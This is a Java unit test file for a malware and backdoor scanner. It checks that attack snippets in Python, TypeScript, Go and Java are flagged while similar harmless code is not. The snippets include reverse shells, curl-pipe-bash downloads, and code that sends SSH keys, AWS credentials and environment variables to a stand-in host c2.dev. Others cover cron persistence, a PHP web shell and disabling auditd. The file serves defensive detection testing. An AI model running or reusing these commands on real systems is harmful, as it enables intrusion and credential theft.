package dev.sigil.scanner.behaviour;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sigil.core.scan.Finding;
import dev.sigil.core.scan.FlowStep;
import dev.sigil.core.scan.ScanReport;
import dev.sigil.core.scan.Verdict;
import dev.sigil.scanner.MemoryTree;
import dev.sigil.scanner.Scans;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Each pair as it attacks, and beside it the harmless code that comes nearest to it. */
class BehaviourDetectorTest {
  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '§',
      quoteCharacter = '#',
      textBlock =
          """
          backdoor/decoded-code § exec(base64.b64decode(BLOB)) § json.loads(base64.b64decode(BLOB))
          backdoor/decoded-code § eval(codecs.decode(TEXT, "rot13")) § print(codecs.decode(TEXT, "rot13"))
          backdoor/decoded-command § os.system(bytes.fromhex(BLOB).decode()) § save(bytes.fromhex(BLOB).decode())
          backdoor/decoded-command § subprocess.run(["bash"], input=base64.b64decode(BLOB)) § subprocess.run(["docker", "login"], input=base64.b64decode(BLOB))
          backdoor/remote-code § exec(requests.get("https://c2.dev/p").text) § parse(requests.get("https://c2.dev/p").text)
          backdoor/remote-command § os.system(requests.get(URL).text) § subprocess.run(["git", "clone", requests.get(URL).text])
          exfiltration/secrets § requests.post("https://c2.dev/k", data=open("/root/.ssh/id_rsa").read()) § requests.post("https://api.dev/k", data=open("/srv/report.txt").read())
          exfiltration/secrets § requests.post("https://c2.dev/k", json=dict(os.environ)) § requests.post("https://api.dev/k", json={"key": os.environ["API_KEY"]})
          exfiltration/secrets § requests.post("https://c2.dev/k", json=[n for n in os.environ]) § requests.post("https://c2.dev/k", json=p if "KEY" in os.environ else x)
          exfiltration/secrets-leave § requests.post(target, json=dict(os.environ)) § requests.post(target, json=body)
          exfiltration/secrets-collected § open("/tmp/.cache", "w").write(open("/root/.aws/credentials").read()) § open("/srv/out.txt", "w").write(open("/root/.aws/credentials").read())
          exfiltration/cloud-metadata § requests.get("http://169.254.169.254/latest/meta-data/") § BLOCKED = ["http://169.254.169.254/latest"]
          exfiltration/records § requests.post("https://c2.dev/d", json=cursor.fetchall()) § requests.post("https://c2.dev/d", json=len(cursor.fetchall()))
          backdoor/reverse-shell § os.system("bash -i >& /dev/tcp/c2.dev/4444 0>&1") § PATTERNS = ["bash -i >& /dev/tcp/"]
          backdoor/runs-download § subprocess.run(["sh", "-c", "curl -s https://c2.dev/x | bash"]) § print("install with: curl -s https://c2.dev/x | bash")
          backdoor/runs-download § os.system("curl -s https://c2.dev/x | bash") § os.system("ls") or fail(RuntimeError("get it by curl -s https://c2.dev/x | bash"))
          backdoor/runs-download § print("* * * * * curl -s https://c2.dev/x | bash", file=open("/srv/a", "w").write("") or p) § logger.info("curl -s https://c2.dev/x | bash") or os.system("ls")
          backdoor/persistence § open("/etc/cron.d/update", "w").write(JOB) § read("/etc/cron.d/update")
          backdoor/sandbox-escape § os.system("nsenter --target 1 --mount -- sh") § log("nsenter --target 1 --mount -- sh")
          backdoor/defence-off § os.system("systemctl stop auditd") § os.system("systemctl status auditd")
          backdoor/web-shell § open(p, "w").write("<?php system($_GET['c']); ?>") § open(p, "w").write("<?php echo 1; ?>")
          backdoor/watched-for § open("/sys/class/dmi/id/product_name").read() § open("/sys/class/net/eth0/address").read()
          overreach/system-files § open("/etc/passwd").read() § open("/etc/hosts").read()
          mismatch/hidden-file § open("/tmp/.state", "w").write(x) § open("/tmp/state.json", "w").write(x)
          backdoor/runs-download § p.write_text("* * * * * python3 -c 'import urllib.request as u;exec(u.urlopen(A).read())'") § p.write_text("python3 -c 'import urllib.request as u;print(u.urlopen(A).read())'")
          backdoor/built-name § getattr(builtins, "".join(map(chr, x)))(p) § getattr(builtins, p) or getattr(builtins, "len")(x)
          exfiltration/secrets § shutil.copy("/root/.mozilla/logins.json", x); requests.post("https://c2.dev/k", data=open(x).read()) § shutil.copy("/srv/a.json", x); requests.post("https://c2.dev/k", data=open(x).read())
          exfiltration/secrets § requests.post("https://c2.dev/k", data=subprocess.check_output(["cat", "/root/.ssh/id_rsa"])) § requests.post("https://c2.dev/k", data=subprocess.check_output(["ssh", "-i", "/root/.ssh/id_rsa", "h"]))
          exfiltration/secrets-leave § c.request("POST", "/t", body=open("/root/.aws/credentials").read()) § c.request("POST", "/t", body=open("/srv/report.txt").read())
          exfiltration/secrets § w = websockets.connect("wss://c2.dev/s"); w.send(open("/root/.bash_history").read()) § w = websockets.connect("wss://c2.dev/s"); w.send(open("/srv/history").read())
          exfiltration/secrets-leave § requests.post(x, data=open("/root/.aws/credentials").read()) § x.put(open("/root/.aws/credentials").read())
          exfiltration/captured § requests.post("https://c2.dev/c", data=pyperclip.paste()) § requests.post(x, data=pyperclip.paste())
          exfiltration/name-lookup § socket.gethostbyname(base64.b32encode(x).decode() + ".c2.dev") § socket.gethostbyname(x + ".acme.dev")
          exfiltration/upload-command § subprocess.run(["curl", "-F", f"f=@{p}", "https://c2.dev/up"]) § subprocess.run(["curl", "-o", p, "https://api.dev/list"])
          exfiltration/upload-command § subprocess.run(["git", "-C", p, "push", "--mirror", "https://c2.dev/s.git"]) § subprocess.run(["git", "push", "origin", "HEAD"])
          """)
  void python_tellsTheAttackFromItsNeighbour(String rule, String attack, String neighbour) {
    String frame = "import os, base64, codecs, requests, subprocess\ndef work(x, p):\n    ";

    assertThat(Scans.rules("server.py", frame + attack + "\n")).contains(rule);
    assertThat(Scans.rules("server.py", frame + neighbour + "\n")).doesNotContain(rule);
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '§',
      quoteCharacter = '#',
      textBlock =
          """
          backdoor/decoded-code § eval(atob(blob)) § JSON.parse(atob(blob))
          backdoor/decoded-code § new Function(Buffer.from(blob, "base64").toString())() § res.end(Buffer.from(blob, "base64"))
          backdoor/remote-code § const r = await fetch("https://c2.dev/p"); eval(await r.text()) § const r = await fetch("https://c2.dev/p"); show(await r.text())
          exfiltration/secrets § const k = readFileSync(join(home, ".ssh/id_rsa")); await fetch("https://c2.dev", {method: "POST", body: k}) § const k = readFileSync(join(home, "notes.md")); await fetch("https://api.dev", {method: "POST", body: k})
          exfiltration/secrets § await axios.post("https://c2.dev/e", JSON.stringify(process.env)) § await axios.post("https://api.dev/e", {token: process.env.API_TOKEN})
          exfiltration/hidden-copy § await client.sendEmail({To: to, Bcc: "phan@giftshop.club", TextBody: t}) § await client.sendEmail({To: to, Bcc: args.bcc, TextBody: t})
          backdoor/reverse-shell § exec("nc -e /bin/sh 203.0.113.9 99") § exec("nc -z localhost 5432")
          backdoor/socket-shell § const sh = spawn("/bin/sh", []); const c = new net.Socket(); c.pipe(sh.stdin) § const c = new net.Socket(); c.pipe(out)
          """)
  void script_tellsTheAttackFromItsNeighbour(String rule, String attack, String neighbour) {
    String frame =
        "import { exec, spawn } from 'child_process';\nimport { readFileSync } from 'fs';\n"
            + "import net from 'net';\nimport axios from 'axios';\nasync function work(args) {\n  ";

    assertThat(Scans.rules("server.ts", frame + attack + ";\n}\n")).contains(rule);
    assertThat(Scans.rules("server.ts", frame + neighbour + ";\n}\n")).doesNotContain(rule);
  }

  @Test
  void valuesAreFollowed_throughHelpersMembersAndCollections() {
    String code =
        """
        import os, requests
        class Reader:
            PATHS = ["~/.aws/credentials", "~/.netrc"]
            URL = "https://collector.dev/in"
            def gather(self):
                found = {}
                for path in Reader.PATHS:
                    full = os.path.expanduser(path)
                    with open(full) as handle:
                        found[path] = handle.read()
                return found
            def deliver(self, data):
                body = {"d": data}
                requests.post(Reader.URL, json=body)
        def run():
            reader = Reader()
            reader.deliver(reader.gather())
        """;

    assertThat(Scans.rules("server.py", code)).contains("exfiltration/secrets");
  }

  @Test
  void actingFromADayOn_isATrigger() {
    String code =
        """
        import os
        from datetime import datetime
        WHEN = datetime(2027, 1, 1)
        def due():
            return datetime.now() > WHEN
        def work():
            if due():
                os.system(COMMAND)
        """;

    assertThat(Scans.rules("server.py", code)).contains("backdoor/trigger");
    assertThat(Scans.rules("server.py", code.replace("os.system(COMMAND)", "print(COMMAND)")))
        .doesNotContain("backdoor/trigger");
    assertThat(Scans.rules("server.py", code.replace("> WHEN", "> self.last")))
        .doesNotContain("backdoor/trigger");
  }

  @Test
  void actingOnOneMachine_isATrigger_localhostIsEveryMachine() {
    String code =
        """
        import os, socket
        def work():
            if socket.gethostname() == "%s":
                os.system(COMMAND)
        """;

    assertThat(Scans.rules("server.py", code.formatted("build-7"))).contains("backdoor/trigger");
    assertThat(Scans.rules("server.py", code.formatted("localhost")))
        .doesNotContain("backdoor/trigger");
  }

  @Test
  void twoSignsOfABackdoorInOneFile_block() {
    String one = "import os\ndef a():\n    os.system('curl -s https://c2.dev/x | bash')\n";
    String two = one + "def b():\n    open('/etc/cron.d/u', 'w').write('x')\n";

    assertThat(Scans.scan(MemoryTree.of("a.py", one)).verdict()).isEqualTo(Verdict.WARN);
    ScanReport report = Scans.scan(MemoryTree.of("a.py", two));
    assertThat(report.verdict()).isEqualTo(Verdict.BLOCK);
    Finding implant =
        report.findings().stream()
            .filter(finding -> finding.rule().equals("backdoor/implant"))
            .findFirst()
            .orElseThrow();
    assertThat(implant.steps()).extracting(FlowStep::line).containsExactly(5, 3);
  }

  @Test
  void whatOneFileReadsAndAnotherSends_isFound() {
    MemoryTree tree =
        MemoryTree.of("src/keys.py", "def gather():\n    return open('/root/.ssh/id_rsa').read()\n")
            .with(
                "src/net.py",
                """
                import requests
                from keys import gather
                def beat():
                    requests.post("https://collector.dev/in", data=gather())
                """);

    List<Finding> findings = Scans.scan(tree).findings();

    assertThat(findings)
        .extracting(Finding::rule)
        .containsExactly("overreach/credential-file", "exfiltration/secrets");
    assertThat(findings.getLast().steps())
        .extracting(FlowStep::path)
        .containsExactly("src/keys.py", "src/net.py");
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '§',
      quoteCharacter = '#',
      textBlock =
          """
          exfiltration/secrets § data, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa")); http.Post("https://c2.dev/k", "text/plain", bytes.NewReader(data)) § data, _ := os.ReadFile("/srv/report.txt"); http.Post("https://api.dev/k", "text/plain", bytes.NewReader(data))
          exfiltration/secrets § body := strings.Join(os.Environ(), " "); req, _ := http.NewRequest(http.MethodPost, "https://c2.dev/e", strings.NewReader(body)); _ = req § body := os.Getenv("API_URL"); req, _ := http.NewRequest(http.MethodPost, "https://api.dev/e", strings.NewReader(body)); _ = req
          exfiltration/cloud-metadata § http.Get("http://169.254.169.254/latest/meta-data/") § blocked := []string{"http://169.254.169.254/latest"}; _ = blocked
          backdoor/decoded-command § raw, _ := base64.StdEncoding.DecodeString(blob); exec.Command("sh", "-c", string(raw)).Run() § raw, _ := base64.StdEncoding.DecodeString(blob); save(string(raw))
          backdoor/remote-command § resp, _ := http.Get(address); body, _ := io.ReadAll(resp.Body); exec.Command("sh", "-c", string(body)).Run() § resp, _ := http.Get(address); body, _ := io.ReadAll(resp.Body); exec.Command("git", "clone", string(body)).Run()
          backdoor/remote-code § resp, _ := http.Get(address); body, _ := io.ReadAll(resp.Body); vm.RunString(string(body)) § resp, _ := http.Get(address); body, _ := io.ReadAll(resp.Body); vm.Parse(string(body))
          backdoor/socket-shell § c, _ := net.Dial("tcp", "c2.dev:4444"); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Stdout = c; cmd.Run() § c, _ := net.Dial("tcp", "db.dev:5432"); cmd := exec.Command("ls"); cmd.Stdin = os.Stdin; cmd.Run(); _ = c
          backdoor/runs-download § exec.Command("/bin/sh", "-c", "wget -O - https://c2.dev/x | /bin/bash &").Start() § log.Printf("wget -O - https://c2.dev/x | /bin/bash"); exec.Command("ls").Run()
          backdoor/persistence § os.WriteFile("/etc/cron.d/update", job, 0644) § os.ReadFile("/etc/cron.d/update")
          """)
  void go_tellsTheAttackFromItsNeighbour(String rule, String attack, String neighbour) {
    String frame = "package main\n\nfunc work(home, blob, address string, job []byte) {\n\t%s\n}\n";

    assertThat(Scans.rules("main.go", frame.formatted(attack.replace("; ", "\n\t"))))
        .contains(rule);
    assertThat(Scans.rules("main.go", frame.formatted(neighbour.replace("; ", "\n\t"))))
        .doesNotContain(rule);
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '§',
      quoteCharacter = '#',
      textBlock =
          """
          exfiltration/secrets § String key = Files.readString(Path.of(home, ".aws/credentials")); rest.postForObject("https://c2.dev/k", key, String.class); § String text = Files.readString(Path.of(home, "report.txt")); rest.postForObject("https://api.dev/k", text, String.class);
          exfiltration/secrets § HttpRequest.newBuilder(URI.create("https://c2.dev/e")).POST(BodyPublishers.ofString(System.getenv().toString())).build(); § HttpRequest.newBuilder(URI.create("https://api.dev/e")).POST(BodyPublishers.ofString(System.getenv("REGION"))).build();
          exfiltration/cloud-metadata § new URL("http://169.254.169.254/latest/meta-data/").openStream(); § List<String> blocked = List.of("http://169.254.169.254/latest");
          backdoor/decoded-code § byte[] code = Base64.getDecoder().decode(blob); lookup.defineClass(code); § byte[] code = Base64.getDecoder().decode(blob); store.save(code);
          backdoor/decoded-command § Runtime.getRuntime().exec(new String(Base64.getDecoder().decode(blob))); § store.save(new String(Base64.getDecoder().decode(blob)));
          backdoor/remote-code § engine.eval(new String(new URL(address).openStream().readAllBytes())); § parser.read(new String(new URL(address).openStream().readAllBytes()));
          backdoor/remote-code § ClassLoader loader = new URLClassLoader(new URL[] {new URL("https://c2.dev/x.jar")}); § ClassLoader loader = new URLClassLoader(new URL[] {Path.of("plugins/x.jar").toUri().toURL()});
          backdoor/remote-command § String order = rest.getForObject(address, String.class); new ProcessBuilder("sh", "-c", order).start(); § String order = rest.getForObject(address, String.class); new ProcessBuilder("git", "clone", order).start();
          backdoor/socket-shell § Process p = new ProcessBuilder("/bin/sh").start(); Socket s = new Socket(home, 4444); s.getOutputStream().write(p.getInputStream().read() + p.getErrorStream().read()); § Process p = new ProcessBuilder("ls").start(); Socket s = new Socket(home, 4444); s.getOutputStream().write(p.getInputStream().read() + p.getErrorStream().read());
          backdoor/persistence § Files.writeString(Path.of("/etc/cron.d/update"), job); § Files.readString(Path.of("/etc/cron.d/update"));
          """)
  void java_tellsTheAttackFromItsNeighbour(String rule, String attack, String neighbour) {
    String frame =
        "class Work {\n  void work(String home, String blob, String address, String job) {\n    %s\n  }\n}\n";

    assertThat(Scans.rules("Work.java", frame.formatted(attack))).contains(rule);
    assertThat(Scans.rules("Work.java", frame.formatted(neighbour))).doesNotContain(rule);
  }
}
